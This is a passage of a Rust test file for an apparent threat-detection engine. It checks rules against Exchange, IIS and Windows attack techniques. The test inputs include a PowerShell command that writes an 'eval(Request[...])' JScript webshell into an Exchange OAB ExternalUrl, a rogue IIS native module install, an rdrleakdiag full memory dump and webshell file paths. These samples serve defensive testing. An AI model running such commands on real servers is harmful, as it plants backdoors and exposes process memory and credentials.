    let bad = r#"powershell.exe -command "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn;Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>'""#;
    let hit = command_line(&det, CMD, POWERSHELL, bad);
    assert!(
        has(
            &hit,
            "Virtual Directory URL Holding Script Set From a Command Line"
        ),
        "{hit:?}"
    );
    let good = r#"powershell.exe -command "Set-OabVirtualDirectory -Identity 'EXCH01\OAB (Default Web Site)' -ExternalUrl https://mail.contoso.com/OAB""#;
    let ok = command_line(&det, r"C:\Windows\explorer.exe", POWERSHELL, good);
    assert!(ok.is_empty(), "{ok:?}");
    let ps = script_block(
        &det,
        r#"Set-OabVirtualDirectory -Identity "OAB (Default Web Site)" -ExternalUrl "http://f/<script language=`"JScript`" runat=`"server`">function Page_Load(){eval(Request[`"k`"],`"unsafe`");}</script>""#,
    );
    assert!(
        has(
            &ps,
            "Virtual Directory URL Holding Script Set in a PowerShell Script Block"
        ),
        "{ps:?}"
    );
    let ps_ok = script_block(
        &det,
        r#"Set-OwaVirtualDirectory -Identity "EXCH01\owa (Default Web Site)" -ExternalUrl "https://mail.contoso.com/owa" -InternalUrl "https://exch01.contoso.local/owa""#,
    );
    assert!(ps_ok.is_empty(), "{ps_ok:?}");
}

#[test]
fn iis_native_module_and_rdrleakdiag() {
    let det = detector();
    let appcmd = r"C:\Windows\System32\inetsrv\appcmd.exe";
    let install = command_line(
        &det,
        CMD,
        appcmd,
        r"C:\Windows\system32\inetsrv\appcmd.exe install module /name:ProxyFilter /image:C:\Windows\System32\inetsrv\proxyfilter.dll",
    );
    assert!(
        has(&install, "Native IIS Module Registered From a Command Line"),
        "{install:?}"
    );
    let list = command_line(
        &det,
        CMD,
        appcmd,
        r"C:\Windows\system32\inetsrv\appcmd.exe list modules",
    );
    assert!(list.is_empty(), "{list:?}");
    let ps = script_block(
        &det,
        r"New-WebGlobalModule -Name ProxyFilter -Image C:\Windows\System32\inetsrv\proxyfilter.dll",
    );
    assert!(
        has(
            &ps,
            "Native IIS Module Registered in a PowerShell Script Block"
        ),
        "{ps:?}"
    );
    let ps_list = script_block(&det, "Get-WebGlobalModule | Select-Object Name,Image");
    assert!(ps_list.is_empty(), "{ps_list:?}");

    let rdr = r"C:\Windows\System32\rdrleakdiag.exe";
    let dump = command_line(
        &det,
        CMD,
        rdr,
        r"rdrleakdiag.exe /p 680 /o C:\Windows\Temp\r /fullmemdmp /wait 1",
    );
    assert!(has(&dump, "RdrLeakDiag"), "{dump:?}");
    let snap = command_line(
        &det,
        CMD,
        rdr,
        r"rdrleakdiag.exe /p 2212 /o C:\Windows\Temp\r /snap",
    );
    assert!(snap.is_empty(), "{snap:?}");
}

#[test]
fn proxyshell_files() {
    let det = detector();
    let ls = inventory();
    let f = |path: &str, magic: &str| {
        let name = path.rsplit('/').next().unwrap();
        let ext = name
            .rsplit_once('.')
            .map(|(_, e)| e.to_ascii_lowercase())
            .unwrap_or_default();
        fire(
            &det,
            &ls,
            &[
                ("Path", path),
                ("FileName", name),
                ("Extension", &ext),
                ("FileClass", "web-content"),
                ("Magic", magic),
            ],
        )
    };
    let pst = f(
        "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/HWTJQDMFVMPOON.aspx",
        "2142444e5cd40e00",
    );
    assert!(has(&pst, "Starts Like a PST or a DER"), "{pst:?}");
    let der = f("C/inetpub/wwwroot/aspnet_client/x.aspx", "3082044a30820232");
    assert!(has(&der, "Starts Like a PST or a DER"), "{der:?}");
    let logon = f(
        "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx",
        "3c25402050616765",
    );
    assert!(logon.is_empty(), "{logon:?}");
    let real_pst = fire(
        &det,
        &ls,
        &[
            ("Path", "D/Exports/alice.pst"),
            ("FileName", "alice.pst"),
            ("Extension", "pst"),
            ("FileClass", "other"),
            ("Magic", "2142444e5cd40e00"),
        ],
    );
    assert!(real_pst.is_empty(), "{real_pst:?}");

    let reserved = f("C/ProgramData/COM1/shell.aspx", "3c25402050616765");
    assert!(
        has(&reserved, "Folder Named Like a DOS Device"),
        "{reserved:?}"
    );
    let vendor = f("C/ProgramData/Comodo/agent/help.aspx", "3c25402050616765");
    assert!(vendor.is_empty(), "{vendor:?}");

    let fe = file_event();
    let created = fire(
        &det,
        &fe,
        &[
            ("Image", W3WP),
            ("TargetFilename", r"C:\ProgramData\COM\aspnet.aspx"),
        ],
    );
    assert!(
        has(
            &created,
            "Created Under a ProgramData Folder Named Like a DOS Device"
        ),
        "{created:?}"
    );
    let vendor_fe = fire(
        &det,
        &fe,
        &[
            ("Image", r"C:\Program Files\COMODO\cmdagent.exe"),
            ("TargetFilename", r"C:\ProgramData\Comodo\agent\help.aspx"),
        ],
    );
    assert!(vendor_fe.is_empty(), "{vendor_fe:?}");
}
